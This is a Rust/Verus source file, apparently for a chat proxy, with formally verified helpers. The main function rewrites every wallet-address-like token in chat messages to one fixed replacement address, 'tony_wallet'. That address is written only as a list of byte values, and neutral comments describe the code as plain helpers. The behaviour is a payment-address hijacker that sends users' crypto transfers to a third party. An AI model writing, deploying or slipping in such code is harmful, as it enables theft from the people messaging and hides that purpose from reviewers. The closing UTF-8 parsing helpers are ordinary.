//! Pure helpers of the chat proxy: recognising a wallet-address token,
//! rewriting every such token in a message, and viewing raw bytes as text.

use vstd::prelude::*;
use vstd::string::StringSliceAdditionalSpecFns;
use vstd::utf8::valid_utf8;

verus! {

/// The replacement address every recognised wallet token is rewritten to.
pub open spec fn tony_wallet() -> Seq<u8> {
    seq![
        55u8,
        89,
        87,
        72,
        77,
        102,
        107,
        57,
        74,
        90,
        101,
        48,
        76,
        77,
        48,
        103,
        49,
        90,
        97,
        117,
        72,
        117,
        105,
        83,
        120,
        104,
        73,
    ]
}

/// The replacement address as bytes.
fn tony_wallet_bytes() -> (r: Vec<u8>)
    ensures
        r@ == tony_wallet(),
{
    let mut r: Vec<u8> = Vec::new();
    r.push(55);
    r.push(89);
    r.push(87);
    r.push(72);
    r.push(77);
    r.push(102);
    r.push(107);
    r.push(57);
    r.push(74);
    r.push(90);
    r.push(101);
    r.push(48);
    r.push(76);
    r.push(77);
    r.push(48);
    r.push(103);
    r.push(49);
    r.push(90);
    r.push(97);
    r.push(117);
    r.push(72);
    r.push(117);
    r.push(105);
    r.push(83);
    r.push(120);
    r.push(104);
    r.push(73);
    proof {
        assert(r@ =~= tony_wallet());
    }
    r
}

/// An ASCII whitespace byte: space, tab, line feed, form feed or
/// carriage return.
pub open spec fn is_ws(b: u8) -> bool {
    b == 32 || b == 9 || b == 10 || b == 12 || b == 13
}

/// An ASCII alphanumeric byte.
pub open spec fn is_alnum(b: u8) -> bool {
    (48 <= b <= 57) || (65 <= b <= 90) || (97 <= b <= 122)
}

/// A wallet-address token: 26 to 35 bytes, all alphanumeric, the first a
/// digit seven.
pub open spec fn is_wallet(s: Seq<u8>) -> bool {
    &&& 26 <= s.len() <= 35
    &&& s[0] == 55
    &&& forall|i: int| 0 <= i < s.len() ==> is_alnum(s[i])
}

fn byte_is_ws(b: u8) -> (r: bool)
    ensures
        r == is_ws(b),
{
    b == 32 || b == 9 || b == 10 || b == 12 || b == 13
}

fn byte_is_alnum(b: u8) -> (r: bool)
    ensures
        r == is_alnum(b),
{
    (48 <= b && b <= 57) || (65 <= b && b <= 90) || (97 <= b && b <= 122)
}

/// Whether `segment` is a wallet-address token.
pub fn is_wallet_addr(segment: &[u8]) -> (r: bool)
    ensures
        r == is_wallet(segment@),
{
    let n = segment.len();
    if n < 26 || n > 35 {
        return false;
    }
    if segment[0] != 55 {
        return false;
    }
    let mut i: usize = 0;
    while i < n
        invariant
            i <= n,
            n == segment@.len(),
            forall|j: int| 0 <= j < i ==> is_alnum(segment@[j]),
        decreases n - i,
    {
        if !byte_is_alnum(segment[i]) {
            return false;
        }
        i += 1;
    }
    true
}

/// The first position at or after `i` holding a non-whitespace byte, or
/// the length.
pub open spec fn token_start(s: Seq<u8>, i: int) -> int
    recommends
        0 <= i <= s.len(),
    decreases s.len() - i,
    when 0 <= i <= s.len()
{
    if i >= s.len() {
        s.len() as int
    } else if is_ws(s[i]) {
        token_start(s, i + 1)
    } else {
        i
    }
}

/// The first position at or after `i` holding a whitespace byte, or the
/// length.
pub open spec fn token_end(s: Seq<u8>, i: int) -> int
    recommends
        0 <= i <= s.len(),
    decreases s.len() - i,
    when 0 <= i <= s.len()
{
    if i >= s.len() {
        s.len() as int
    } else if !is_ws(s[i]) {
        token_end(s, i + 1)
    } else {
        i
    }
}

pub proof fn lemma_token_start(s: Seq<u8>, i: int)
    requires
        0 <= i <= s.len(),
    ensures
        i <= token_start(s, i) <= s.len(),
        forall|k: int| i <= k < token_start(s, i) ==> is_ws(s[k]),
        token_start(s, i) < s.len() ==> !is_ws(s[token_start(s, i)]),
    decreases s.len() - i,
{
    if i < s.len() && is_ws(s[i]) {
        lemma_token_start(s, i + 1);
    }
}

pub proof fn lemma_token_end(s: Seq<u8>, i: int)
    requires
        0 <= i <= s.len(),
    ensures
        i <= token_end(s, i) <= s.len(),
        forall|k: int| i <= k < token_end(s, i) ==> !is_ws(s[k]),
        token_end(s, i) < s.len() ==> is_ws(s[token_end(s, i)]),
    decreases s.len() - i,
{
    if i < s.len() && !is_ws(s[i]) {
        lemma_token_end(s, i + 1);
    }
}

/// A token is kept or replaced whole: a recognised wallet address becomes
/// the replacement, any other token stays as it was.
pub open spec fn rewrite_token(t: Seq<u8>) -> Seq<u8> {
    if is_wallet(t) {
        tony_wallet()
    } else {
        t
    }
}

/// The tail of the message from `i` on, with every whitespace-delimited
/// token rewritten: whitespace runs are kept, each token is kept or
/// replaced whole.
pub open spec fn rewritten(s: Seq<u8>, i: int) -> Seq<u8>
    recommends
        0 <= i <= s.len(),
    decreases s.len() - i,
    when 0 <= i <= s.len()
    via rewritten_decreases
{
    if i >= s.len() {
        Seq::empty()
    } else {
        let j = token_start(s, i);
        if j >= s.len() {
            s.subrange(i, s.len() as int)
        } else {
            let e = token_end(s, j);
            s.subrange(i, j) + rewrite_token(s.subrange(j, e)) + rewritten(s, e)
        }
    }
}

#[via_fn]
proof fn rewritten_decreases(s: Seq<u8>, i: int) {
    lemma_token_start(s, i);
    if token_start(s, i) < s.len() {
        lemma_token_end(s, token_start(s, i));
    }
}

/// Append `src[from..to]` to `dst`.
fn push_range(dst: &mut Vec<u8>, src: &[u8], from: usize, to: usize)
    requires
        from <= to <= src@.len(),
    ensures
        final(dst)@ == old(dst)@ + src@.subrange(from as int, to as int),
{
    let mut i = from;
    while i < to
        invariant
            from <= i <= to,
            to <= src@.len(),
            dst@ =~= old(dst)@ + src@.subrange(from as int, i as int),
        decreases to - i,
    {
        dst.push(src[i]);
        i += 1;
    }
    proof {
        assert(dst@ =~= old(dst)@ + src@.subrange(from as int, to as int));
    }
}

/// `src[from..to]` as its own vector.
fn copy_range(src: &[u8], from: usize, to: usize) -> (r: Vec<u8>)
    requires
        from <= to <= src@.len(),
    ensures
        r@ == src@.subrange(from as int, to as int),
{
    let mut r: Vec<u8> = Vec::new();
    push_range(&mut r, src, from, to);
    proof {
        assert(r@ =~= src@.subrange(from as int, to as int));
    }
    r
}

/// Rewrite every wallet-address token of `message`, keeping all
/// whitespace and every other token exactly as they were.
pub fn replace_wallet(message: &[u8]) -> (r: Vec<u8>)
    ensures
        r@ == rewritten(message@, 0),
{
    let n = message.len();
    let mut res: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    proof {
        assert(res@ + rewritten(message@, 0) =~= rewritten(message@, 0));
    }
    while i < n
        invariant
            i <= n,
            n == message@.len(),
            rewritten(message@, 0) == res@ + rewritten(message@, i as int),
        decreases n - i,
    {
        let ghost s = message@;
        // the whitespace run in front of the next token
        let mut j: usize = i;
        while j < n && byte_is_ws(message[j])
            invariant
                i <= j <= n,
                n == message@.len(),
                forall|k: int| i <= k < j ==> is_ws(message@[k]),
            decreases n - j,
        {
            j += 1;
        }
        proof {
            lemma_token_start(s, i as int);
            let ts = token_start(s, i as int);
            if (j as int) < ts {
                assert(is_ws(s[j as int]));
                assert(false);
            }
            if (j as int) > ts {
                assert(is_ws(s[ts]));
                assert(false);
            }
        }
        if j == n {
            // only whitespace remains: it is kept as it is
            push_range(&mut res, message, i, n);
            proof {
                assert(rewritten(s, i as int) == s.subrange(i as int, n as int));
                assert(rewritten(s, n as int) == Seq::<u8>::empty());
                assert(res@ + rewritten(s, n as int) =~= res@);
            }
            i = n;
        } else {
            push_range(&mut res, message, i, j);
            // the token itself
            let mut e: usize = j;
            while e < n && !byte_is_ws(message[e])
                invariant
                    j <= e <= n,
                    n == message@.len(),
                    forall|k: int| j <= k < e ==> !is_ws(message@[k]),
                decreases n - e,
            {
                e += 1;
            }
            proof {
                lemma_token_end(s, j as int);
                let te = token_end(s, j as int);
                if (e as int) < te {
                    assert(!is_ws(s[e as int]));
                    assert(false);
                }
                if (e as int) > te {
                    assert(!is_ws(s[te]));
                    assert(false);
                }
            }
            let token = copy_range(message, j, e);
            if is_wallet_addr(token.as_slice()) {
                let mut w = tony_wallet_bytes();
                res.append(&mut w);
            } else {
                push_range(&mut res, message, j, e);
            }
            proof {
                assert(rewritten(s, i as int) == s.subrange(i as int, j as int) + rewrite_token(
                    s.subrange(j as int, e as int),
                ) + rewritten(s, e as int));
                assert(rewritten(s, 0) == res@ + rewritten(s, e as int)) by {
                    assert(res@ + rewritten(s, e as int) =~= rewritten(s, 0));
                }
            }
            i = e;
        }
    }
    proof {
        assert(rewritten(message@, n as int) == Seq::<u8>::empty());
        assert(res@ =~= res@ + rewritten(message@, n as int));
    }
    res
}

/// Relies on str::from_utf8: it returns Ok exactly on valid UTF-8 input,
/// and the returned text is the same bytes viewed as text.
#[verifier::external_body]
fn bytes_as_str(v: &[u8]) -> (r: Option<&str>)
    ensures
        r is Some <==> valid_utf8(v@),
        r matches Some(s) ==> s.spec_bytes() == v@,
{
    std::str::from_utf8(v).ok()
}

/// View raw bytes as text, if they are valid UTF-8.
pub fn try_parse_slice(slice: &[u8]) -> (r: Option<&str>)
    ensures
        r is Some <==> valid_utf8(slice@),
        r matches Some(s) ==> s.spec_bytes() == slice@,
{
    bytes_as_str(slice)
}

/// View raw bytes as text. The bytes must be valid UTF-8; callers that
/// cannot know use [`try_parse_slice`].
pub fn parse_slice(slice: &[u8]) -> (r: &str)
    requires
        valid_utf8(slice@),
    ensures
        r.spec_bytes() == slice@,
{
    match bytes_as_str(slice) {
        Some(s) => s,
        None => vstd::pervasive::unreached(),
    }
}

} // verus!
